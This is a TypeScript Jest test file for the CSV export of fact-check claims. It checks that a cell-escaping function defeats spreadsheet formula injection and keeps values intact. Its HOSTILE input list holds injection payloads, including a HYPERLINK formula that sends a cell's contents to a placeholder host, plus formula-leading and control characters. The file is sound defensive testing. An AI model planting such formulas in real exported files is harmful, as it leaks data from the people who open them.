import { describe, expect, test } from '@jest/globals';
import { stringify } from 'csv-stringify/sync';
import { csvHeader, csvRecords, safeCell } from './claims-csv.js';
import type { ExportedClaim } from './exported-claim.js';

/** A reader of RFC 4180 of our own, so that writing is not tested by its own library. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  const row: string[] = [];
  const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/gy;
  for (let at = 0; at < text.length; at = cell.lastIndex) {
    cell.lastIndex = at;
    const found = cell.exec(text);
    if (!found) throw new Error(`no record at ${at}: ${JSON.stringify(text.slice(at, at + 40))}`);
    row.push(found[1]?.replaceAll('""', '"') ?? found[2]!);
    if (found[3] === '\r\n') rows.push(row.splice(0));
  }
  return rows;
}

const back = (cell: string): string => cell.replace(/^'/, '');

const HOSTILE = [
  ...['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '\0=1', '＝1', '＋1', '－1', '＠x'],
  ...[
    '=HYPERLINK("http://x.example?"&A1,"click")',
    "'=1",
    "''",
    '"',
    '""',
    '",=1',
    'a,b',
    'a"b',
    'a\r\nb',
    'a\nb',
    'a\rb',
  ],
  ...['', ' ', ' =1', ';=1', 'Об’єднані', '김정은', '😀 =1', '\u202eabc', '<script>', '|', 'a | b'],
];

const claim = (rationale: string): ExportedClaim =>
  ({
    id: 'x',
    ordinal: 0,
    quote: rationale,
    spans: [{ start: 1, end: 2 }],
    claimants: [{ name: rationale, kind: 'person' }],
    attribution: null,
    checkWorthiness: { score: 0.5, class: 'CFS' },
    article: { title: null },
    evidence: [],
    verdict: { rationale, reasons: [] },
  }) as unknown as ExportedClaim;

test.each(HOSTILE)('%j goes there and back', (text) => {
  expect(back(safeCell(text))).toBe(text);
  const [header, row] = readCsv(csvHeader(false) + csvRecords([claim(text)]));
  const cell = row![header!.indexOf('rationale')]!;
  expect(back(cell)).toBe(text);
  expect(cell).not.toMatch(/^[=+\-@\t\r\n\0＝＋－＠]/);
});

test('a record ends with CRLF, and each has the columns of the header', () => {
  const text = csvHeader(false) + csvRecords(HOSTILE.map(claim));
  expect(text.endsWith('\r\n')).toBe(true);
  const rows = readCsv(text);
  expect(rows).toHaveLength(HOSTILE.length + 1);
  expect(new Set(rows.map((row) => row.length))).toEqual(new Set([rows[0]!.length]));
});

describe('the byte-order mark', () => {
  test('is there where it is asked for, before the header', () => {
    expect(csvHeader(true)).toBe(`\ufeff${csvHeader(false)}`);
    expect(csvHeader(false).startsWith('"id",')).toBe(true);
  });
});

test('the library alone would not do: it leaves NUL and the apostrophe', () => {
  const written = stringify([['\0=1'], ["'=1"]], { escape_formulas: true });
  expect(written).toBe("\0=1\n'=1\n");
});
